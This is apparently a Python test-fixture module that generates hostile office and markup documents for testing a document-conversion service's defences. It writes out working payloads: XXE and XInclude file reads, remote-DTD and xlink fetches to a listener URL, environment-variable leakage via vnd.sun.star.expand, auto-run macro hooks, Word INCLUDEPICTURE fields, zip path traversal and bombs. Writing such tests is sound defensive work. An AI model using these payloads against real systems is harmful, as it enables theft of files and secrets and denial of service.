"""Documents that attack the service, one or more for each class of attack, made here.

They point at a folder with secrets and at an address where somebody listens: what they show, and
who they call, tells whether a defence holds.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

from lxml import etree
from odt import NAMESPACES, PNG, odt, p, pack, part, picture, section, table
from ooxml import complex_field, docx

#: Text of the secrets; none of it may reach an answer or a log.
CANARY = "CANARY7316"
VISIBLE = "Good day"

UNSAFE = (422, "file-unsafe")
OVER_LIMITS = (422, "file-over-limits")
DAMAGED = (422, "file-damaged")
OTHER_TYPE = (415, "not-the-declared-type")
#: Made without what was hostile in it.
CLEANED = (200, "")

_FORM = "urn:oasis:names:tc:opendocument:xmlns:form:1.0"
_SCRIPT = "urn:oasis:names:tc:opendocument:xmlns:script:1.0"
_CALCEXT = "urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0"


@dataclass(frozen=True)
class Hostile:
    """One document and what has to become of it."""

    name: str
    content: bytes
    #: Status and problem of the answer.
    outcome: tuple[int, str]


def plant(folder: Path) -> None:
    """Put the secrets there."""
    (folder / "secret.txt").write_text(f"{CANARY} text\n")
    (folder / "secret.html").write_text(f"<html><body>{CANARY} page</body></html>")
    (folder / "secret.png").write_bytes(PNG)
    (folder / "secret.odt").write_bytes(odt(p(f"{CANARY} document")))


def hostile_documents(folder: Path, url: str) -> Iterator[Hostile]:
    """All of them, for secrets in ``folder`` and a listener at ``url``."""
    secret = folder.as_uri()
    yield from _pictures(secret, url)
    yield from _environment(url)
    yield from _links(secret, url)
    yield from _macros()
    yield from _other_bytes(secret, url)
    yield from _xml(secret, url)
    yield from _exhaustion()
    yield from _word(secret, url)


def _body(*blocks: str, automatic: str = "", styles: str = "", meta: str = "") -> bytes:
    return odt(p(VISIBLE), *blocks, automatic=automatic, styles=styles, meta=meta)


def _href(address: str) -> str:
    return f'xlink:href="{address}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"'


def _fetching(name: str, address: str) -> Iterator[Hostile]:
    """A picture, a background, a fill and a bullet at that address."""
    background = (
        '<style:style style:name="P1" style:family="paragraph"><style:paragraph-properties>'
        f"<style:background-image {_href(address)}/></style:paragraph-properties></style:style>"
    )
    bullet = (
        '<text:list-style style:name="L1"><text:list-level-style-image text:level="1" '
        f"{_href(address)}/></text:list-style>"
    )
    fill = f'<draw:fill-image draw:name="F1" {_href(address)}/>'
    shown = p(VISIBLE, style="P1")
    yield Hostile(f"picture-{name}.odt", _body(p(picture("x", href=address))), UNSAFE)
    yield Hostile(f"background-{name}.odt", _body(shown, automatic=background), UNSAFE)
    yield Hostile(f"bullet-{name}.odt", _body(automatic=bullet), UNSAFE)
    yield Hostile(f"fill-{name}.odt", _body(styles=fill), UNSAFE)


def _pictures(secret: str, url: str) -> Iterator[Hostile]:
    yield from _fetching("file", f"{secret}/secret.png")
    yield from _fetching("http", f"{url}/a.png")
    webdav = url.replace("http", "vnd.sun.star.webdav")
    yield Hostile("picture-webdav.odt", _body(p(picture("x", href=f"{webdav}/a.png"))), UNSAFE)
    yield Hostile("picture-up.odt", _body(p(picture("x", href="../../secret.png"))), UNSAFE)
    for name, inner in (
        ("file", f'<image href="{secret}/secret.png" width="9" height="9"/>'),
        ("http", f'<use href="{url}/a.svg#a"/>'),
        ("css", f"<style>@import url({url}/a.css);</style>"),
    ):
        drawing = f'<svg xmlns="http://www.w3.org/2000/svg">{inner}</svg>'.encode()
        parts = {"Pictures/dot.png": drawing}
        yield Hostile(f"svg-{name}.odt", odt(p(picture("x")), parts=parts), UNSAFE)
    entity = f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{secret}/secret.txt">]><svg>&x;</svg>'
    parts = {"Pictures/dot.png": entity.encode()}
    yield Hostile("svg-entity.odt", odt(p(picture("x")), parts=parts), UNSAFE)
    for name, content in (
        ("eps", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(x) (r) file\n"),
        ("wmf", b"\xd7\xcd\xc6\x9a" + bytes(40)),
        ("emf", b"\x01\0\0\0" + bytes(36) + b" EMF" + bytes(40)),
        ("psd", b"8BPS\0\x01" + bytes(40)),
    ):
        source = odt(p(picture("x")), parts={"Pictures/dot.png": content})
        yield Hostile(f"picture-{name}.odt", source, UNSAFE)


def _environment(url: str) -> Iterator[Hostile]:
    address = f"vnd.sun.star.expand:{url}/$CANARY_IN_ENVIRONMENT"
    yield from _fetching("expand", address)
    yield Hostile("template-expand.odt", _body(meta=f"<meta:template {_href(address)}/>"), CLEANED)
    mapping = (
        f'<c:data-mappings xmlns:c="{_CALCEXT}"><c:data-mapping {_href(address)} '
        'c:provider="org.libreoffice.calc.csv"/></c:data-mappings>'
    )
    yield Hostile("mapping-expand.ods", _sheet(mapping), CLEANED)


def _sheet(inner: str) -> bytes:
    declared = " ".join(f'xmlns:{prefix}="{uri}"' for prefix, uri in NAMESPACES.items())
    content = (
        f"<office:document-content {declared} office:version='1.3'><office:body>"
        f'<office:spreadsheet><table:table table:name="A"><table:table-row><table:table-cell '
        f'office:value-type="string"><text:p>{VISIBLE}</text:p></table:table-cell>'
        f"</table:table-row></table:table>{inner}</office:spreadsheet></office:body>"
        "</office:document-content>"
    )
    kind = "application/vnd.oasis.opendocument.spreadsheet"
    return pack({"content.xml": content.encode()}, mimetype=kind)


def _links(secret: str, url: str) -> Iterator[Hostile]:
    for name, target in (("file", f"{secret}/secret.txt"), ("http", f"{url}/secret.txt")):
        reload = f'<meta:auto-reload {_href(target)} meta:delay="PT0S"/>'
        yield Hostile(f"reload-{name}.odt", _body(meta=reload), CLEANED)
        source = f'<text:section-source {_href(target)} text:filter-name="Text"/>'
        yield Hostile(f"section-{name}.odt", _body(section(source, p("old"))), CLEANED)
        for element in ("object", "object-ole", "plugin", "applet", "floating-frame"):
            inner = f"<draw:{element} {_href(target)}/>"
            frame = f'<draw:frame svg:width="2cm" svg:height="2cm">{inner}</draw:frame>'
            yield Hostile(f"{element}-{name}.odt", _body(p(frame)), CLEANED)
        form = (
            f'<office:forms xmlns:form="{_FORM}"><form:form form:name="F"><form:image '
            f'form:image-data="{target}"/></form:form><m:model '
            f'xmlns:m="http://www.w3.org/2002/xforms"><m:instance src="{target}"/></m:model>'
            "</office:forms>"
        )
        yield Hostile(f"form-{name}.odt", odt(form, p(VISIBLE)), CLEANED)
    dde = '<office:dde-source office:dde-application="soffice" office:dde-topic="a"/>'
    yield Hostile("dde.odt", _body(section(dde, p("old"))), CLEANED)
    database = '<text:database-display text:table-name="t" text:column-name="c">old'
    yield Hostile("database.odt", _body(p(database, "</text:database-display>")), CLEANED)
    path = '<text:file-name text:display="full">old</text:file-name>'
    sender = "<text:sender-lastname>old</text:sender-lastname>"
    yield Hostile("server-fields.odt", _body(p(path, sender)), CLEANED)
    master = pack(
        {"content.xml": _part(_body(section(source, p("old"))))},
        mimetype="application/vnd.oasis.opendocument.text-master",
    )
    yield Hostile("master.odt", master, OTHER_TYPE)


def _part(source: bytes) -> bytes:
    return etree.tostring(part(source))


def _macros() -> Iterator[Hostile]:
    for place in (
        "Standard.Module1.Main?language=Basic&amp;location=document",
        "Tools.Misc.IsFatOffice?language=Basic&amp;location=application",
        "evil.py$main?language=Python&amp;location=document",
        "../../../../tmp/evil.py$main?language=Python&amp;location=share",
    ):
        listeners = "".join(
            f'<s:event-listener xmlns:s="{_SCRIPT}" s:language="ooo:script" '
            f's:event-name="{event}" xlink:href="vnd.sun.star.script:{place}"/>'
            for event in ("dom:load", "office:new", "office:load-finished", "office:print")
        )
        frame = f"<draw:frame><office:event-listeners>{listeners}</office:event-listeners>"
        source = odt(
            p(VISIBLE, frame, "</draw:frame>"),
            parts={
                "Scripts/python/evil.py": b"import os\ndef main(): os.abort()\n",
                "Basic/Standard/Module1.xml": b"<x/>",
            },
        )
        yield Hostile(f"macro-{place[:12]}.odt".replace("/", "_"), source, CLEANED)


def _other_bytes(secret: str, url: str) -> Iterator[Hostile]:
    page = f'<html><img src="{secret}/secret.png"><link rel=stylesheet href="{url}/a.css"></html>'
    refresh = f'<html><meta http-equiv="refresh" content="0;url={secret}/secret.html"></html>'
    rtf = f'{{\\rtf1 {{\\field{{\\*\\fldinst INCLUDEPICTURE "{secret}/secret.png" \\\\d}}}}}}'
    drawing = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{secret}/a.png"/></svg>'
    for name, content in (
        ("page", page.encode()),
        ("refresh", refresh.encode()),
        ("rtf", rtf.encode()),
        ("svg", drawing.encode()),
        ("text", b"plain text"),
        ("random", bytes(range(256)) * 8),
        ("empty", b""),
    ):
        yield Hostile(f"{name}-as.odt", content, OTHER_TYPE)
    good = _body()
    yield Hostile("cut-off.odt", good[: len(good) // 2], DAMAGED)
    yield Hostile("no-parts.odt", b"PK\x05\x06" + bytes(18), DAMAGED)


def _xml(secret: str, url: str) -> Iterator[Hostile]:
    content = _part(_body())
    for name, prolog in (
        ("entity", f'<!DOCTYPE d [<!ENTITY x SYSTEM "{secret}/secret.txt">]>'),
        ("parameter", f'<!DOCTYPE d [<!ENTITY % p SYSTEM "{url}/p.dtd">%p;]>'),
        ("laughs", '<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'),
    ):
        yield Hostile(f"{name}.odt", pack({"content.xml": prolog.encode() + content}), UNSAFE)
    include = (
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
        f'href="{secret}/secret.txt" parse="text"/>'
    )
    yield Hostile("xinclude.odt", _body(include), UNSAFE)
    yield Hostile("python.odt", _body("<?python import os?>"), UNSAFE)


def _exhaustion() -> Iterator[Hostile]:
    yield Hostile("bomb.odt", pack({"content.xml": bytes(40 * 1024 * 1024)}), OVER_LIMITS)
    many = {f"Pictures/{number}": b"" for number in range(2_100)}
    yield Hostile("many-parts.odt", pack(many), OVER_LIMITS)
    yield Hostile("out.odt", pack({"../evil.xml": b"x"}), UNSAFE)
    nested = "<text:section>" * 20_000 + "</text:section>" * 20_000
    yield Hostile("nested.odt", _body(nested), OVER_LIMITS)
    yield Hostile("spaces.odt", _body(p('<text:s text:c="2000000000"/>')), OVER_LIMITS)
    repeated = (
        '<table:table-row table:number-rows-repeated="2000000000"><table:table-cell '
        'table:number-columns-repeated="2000000000"/></table:table-row>'
    )
    yield Hostile("repeats.odt", _body(table(repeated)), OVER_LIMITS)
    yield Hostile("cells.odt", _body("<text:p/>" * 400_001), OVER_LIMITS)


def _word(secret: str, url: str) -> Iterator[Hostile]:
    shown = f"<w:p><w:r><w:t>{VISIBLE}</w:t></w:r></w:p>"
    load = complex_field(f"INCLUDEPICTURE &quot;{secret}/secret.png&quot; \\d", result="old")
    include = complex_field(f"INCLUDETEXT &quot;{secret}/secret.txt&quot;", result="old")
    yield Hostile("fields.docx", docx(f"{shown}<w:p>{load}{include}</w:p>"), CLEANED)
    chunk = docx(f'{shown}<w:altChunk r:id="r1"/>', ("r1", "aFChunk", f"{secret}/secret.html"))
    yield Hostile("chunk.docx", chunk, CLEANED)
    template = docx(shown, ("r1", "attachedTemplate", f"{url}/a.dotm"))
    yield Hostile("template.docx", template, CLEANED)
    linked = docx(shown, ("r1", "image", f"{secret}/secret.png"))
    yield Hostile("picture.docx", linked, UNSAFE)
